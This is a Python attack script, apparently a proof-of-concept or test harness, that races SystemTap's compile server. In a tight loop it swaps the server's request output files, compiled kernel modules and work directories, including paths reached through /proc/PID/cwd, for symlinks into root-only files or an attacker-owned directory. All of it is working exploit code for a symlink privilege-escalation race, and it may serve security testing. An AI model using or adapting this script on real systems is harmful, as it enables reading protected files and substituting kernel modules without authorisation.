"""attacker.py TMPDIR SECRET MINE UNTIL: run as the compile account, outside any sandbox, until
the time UNTIL: swap every name it can reach in every request directory under TMPDIR (and in
each compile's own /proc/PID/cwd/..) for links into SECRET (root-only files) or to MINE (a
directory the account owns); print how many rounds and swaps it made."""

import glob
import os
import sys
import time

tmpdir, secret, mine, until = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
tries = swaps = 0


def swap(link, target):
    global swaps
    try:
        if os.path.lexists(link) and not os.path.isdir(link):
            os.unlink(link)
        os.symlink(target, link)
        swaps += 1
    except OSError:
        pass


while time.time() < until:
    tries += 1
    reqs = glob.glob(os.path.join(tmpdir, "stap-server.*"))
    for pid in os.listdir("/proc"):  # the compile's own view: /proc/PID/cwd
        if pid.isdigit():
            reqs.append(f"/proc/{pid}/cwd/..")
    for req in reqs:
        for name in ("stdout", "stderr", "response", "response.jar"):
            swap(os.path.join(req, name), os.path.join(secret, "f1"))
        for ko in glob.glob(os.path.join(req, "work", "tmp", "*.ko")) + \
                glob.glob(os.path.join(req, "work", "tmp", "*.ko.sgn")):
            swap(ko, os.path.join(secret, "secret.ko"))
        swap(os.path.join(req, "work", "tmp"), secret)
        swap(os.path.join(req, "work", "response"), mine)
    time.sleep(0.001)
print(f"attacker: {tries} rounds, {swaps} swaps")
